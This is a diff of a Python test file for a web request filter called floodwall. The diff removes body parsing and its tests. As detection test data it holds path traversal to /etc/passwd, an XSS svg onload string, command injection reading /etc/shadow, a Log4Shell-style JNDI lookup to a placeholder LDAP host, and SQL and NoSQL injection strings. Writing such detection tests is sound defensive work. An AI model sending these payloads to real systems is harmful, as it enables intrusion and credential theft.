@@ -5,7 +5,6 @@ bench/probes.py."""
 from __future__ import annotations
 
 import dataclasses
-import json
 import secrets
 from collections.abc import Iterator
 from pathlib import Path
@@ -15,6 +14,7 @@ import httpx
 import pytest
 
 from floodwall.config import ConfigError
+from floodwall.defense import request_parts
 from floodwall.defense.request_parts import parts
 from floodwall.defense.scoring import Scorer, ScoringPolicy, load_rules
 from floodwall.edge.policy import DEFAULT_POLICY
@@ -32,10 +32,8 @@ def scorer() -> Scorer:
 def test_attacks_in_each_part_are_scored(scorer: Scorer) -> None:
     cases = {
         "lfi/traversal": Described("GET", "/download", "file=..%252f..%252fetc%252fpasswd"),
-        "xss/markup": Described("POST", "/comment", "", (("Content-Type", "application/json"),),
-                                json.dumps({"text": ["<svg onload=alert(1)>"]})),
-        "rce/unix-command": Described("POST", "/ping", "", (("Content-Type", "application/x-www-form-urlencoded"),),
-                                      "host=127.0.0.1;cat /etc/shadow"),
+        "xss/markup": Described("GET", "/comment", "text=" + quote("<svg onload=alert(1)>")),
+        "rce/unix-command": Described("GET", "/ping", "host=" + quote("127.0.0.1;cat /etc/shadow")),
         "java/classes": Described("GET", "/", "", (("User-Agent", "${jndi:ldap://x.example/a}"),
                                                   ("X-Api-Version", "${jndi:ldap://x.example/a}"))),
         "scanner/user-agent": Described("GET", "/", "", (("User-Agent", "sqlmap/1.7.2#stable"),)),
@@ -51,36 +49,27 @@ def test_ordinary_requests_score_nothing(scorer: Scorer) -> None:
                                                               ("User-Agent", "Mozilla/5.0 Firefox/128.0"),
                                                               ("Accept-Encoding", "gzip, deflate, br"))),
                     Described("POST", "/v1/chat/completions", "", (("Host", "chat.example.org"),
-                                                                   ("Content-Type", "application/json")),
-                              json.dumps({"messages": [{"role": "user", "content": "What is a cat?"}]}))):
+                                                                   ("Content-Type", "application/json")))):
         assert scorer.score(request).score == 0, scorer.score(request)
 
 
 def test_what_looks_like_an_attack_but_is_not(scorer: Scorer) -> None:
-    form = (("Content-Type", "application/x-www-form-urlencoded"),)
-    boundary = "----WebKitFormBoundary"  # its case matters: the body is split on it as sent
-    multipart = "".join(f"--{boundary}\nContent-Disposition: form-data; name=\"f{n}\"\nContent-Type: text/plain; "
-                        f"charset=utf-8\n\nvalue{n}\n" for n in range(2)) + f"--{boundary}--\n"
-    for request in (Described("POST", "/post", "", form, "var=hello; time he came"),  # English after a semicolon
+    for request in (Described("GET", "/post", "var=" + quote("hello; time he came")),  # English after a semicolon
                     Described("GET", "/get", "tag=%3C%3Fxpacket%20begin%3D%22%22%3F%3E"),  # an XMP packet, not PHP
-                    Described("POST", "/", "", (("Content-Type", f"multipart/form-data; boundary={boundary}"),),
-                              multipart),
-                    Described("POST", "/", "", (("Content-Type", "application/json"),), '{"encoding": "base64"}'),
+                    Described("GET", "/", "encoding=base64"),
                     Described("GET", "/", "", (("Cookie", "MyVersion=1; PHPSESSID=secret"),)),
                     Described("GET", "/javascript-manual/document.cookie")):
         request = dataclasses.replace(request, headers=(("Host", "chat.example.org"), *request.headers))
         assert scorer.score(request).score == 0, (request, scorer.score(request))
-    plain = Described("POST", "/post", "", (("Content-Type", "text/plain"),), "test=java.lang.ProcessBuilder")
-    assert "java/classes" in scorer.score(plain).rules  # a body no parser reads is one value
 
 
 def test_the_form_of_a_request_is_scored(scorer: Scorer) -> None:
     host = ("Host", "chat.example.org")
     odd = {
-        "protocol/content-type": Described("POST", "/x", "", (host, ("Content-Type", "my-new-content-type")), "a"),
-        "protocol/charset": Described("POST", "/x", "", (host, ("Content-Type", "text/plain; charset=ibm038")), "a"),
+        "protocol/content-type": Described("POST", "/x", "", (host, ("Content-Type", "my-new-content-type"))),
+        "protocol/charset": Described("POST", "/x", "", (host, ("Content-Type", "text/plain; charset=ibm038"))),
         "protocol/null-byte": Described("GET", "/x", "a=b%00", (host,)),
-        "protocol/body-on-get": Described("GET", "/x", "", (host, ("Content-Length", "7")), "hi=test"),
+        "protocol/body-on-get": Described("GET", "/x", "", (host, ("Content-Length", "7"))),
         "protocol/restricted-extension": Described("GET", "/backup/site.sql", "", (host,)),
         "method/not-allowed": Described("TRACK", "/", "", (host,)),
         "sqli/nosql-operators": Described("GET", "/users", "id[$ne]=2", (host,)),
@@ -109,14 +98,8 @@ def test_the_reader_decodes_what_applications_decode(scorer: Scorer) -> None:
     # the user agent is decoded like the other headers
     agent = parts(Described("GET", "/", "", (host, ("User-Agent", "x %3Cf%20o%20r%20m"))))
     assert agent["agent"] == ["x <f o r m"]
-    # a multipart part's own charset, a body without a type, and where the link came from
-    boundary = "----b"
-    utf7 = (f"--{boundary}\nContent-Disposition: form-data; name=\"a\"\nContent-Type: text/plain; charset=utf-7"
-            f"\n\n+ADw-script+AD4-\n--{boundary}--\n")
-    form = parts(Described("POST", "/", "", (host, ("Content-Type", f"multipart/form-data; boundary={boundary}")),
-                           utf7))
-    assert "multipart-charset" in form["anomalies"]
-    untyped = parts(Described("POST", "/api", "", (host, ("Content-Length", "18")), '{"name":"updated"}'))
+    # a body without a type (as its headers say: the gate reads no body), and where the link came from
+    untyped = parts(Described("POST", "/api", "", (host, ("Content-Length", "18"))))
     assert "body-without-type" in untyped["anomalies"]
     assert "no-referer" in untyped["anomalies"] and "referer-offsite" not in untyped["anomalies"]
     offsite = parts(Described("GET", "/", "", (host, ("Referer", "https://elsewhere.example/"))))
@@ -127,12 +110,10 @@ def test_the_reader_decodes_what_applications_decode(scorer: Scorer) -> None:
     assert scorer.score(dataclasses.replace(flask, headers=(host,))).score == 0
 
 
-def test_multipart_and_xml_bodies_are_read_as_fields() -> None:
-    body = '--b\r\nContent-Disposition: form-data; name="note"; filename="a.txt"\r\n\r\nhello\r\n--b--'
-    found = parts(Described("POST", "/", "", (("Content-Type", "multipart/form-data; boundary=b"),), body))
-    assert "note" in found["names"] and "a.txt" in found["names"] and "hello" in found["args"]
-    xml = parts(Described("POST", "/", "", (("Content-Type", "application/xml"),), '<a b="1 OR 1=1">t</a>'))
-    assert xml["args"] == ["1 OR 1=1", "t"]
+def test_no_body_is_read() -> None:
+    """The gate reads what comes before the body: a body's parsers would be code only a benchmark reached."""
+    assert "body" not in {field.name for field in dataclasses.fields(Described)}
+    assert not [name for name in dir(request_parts) if "multipart" in name or "xml" in name.lower()]
 
 
 def test_paranoia_adds_rules(scorer: Scorer) -> None:
